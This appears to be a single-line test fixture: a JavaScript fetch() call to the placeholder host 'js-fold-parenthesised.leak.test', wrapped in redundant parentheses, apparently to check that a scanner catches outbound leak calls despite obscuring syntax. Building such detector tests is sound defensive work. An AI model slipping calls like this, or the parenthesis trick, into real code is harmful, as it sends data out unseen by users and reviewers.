fetch((("https://js-fold-parenthesised.leak.test/")))
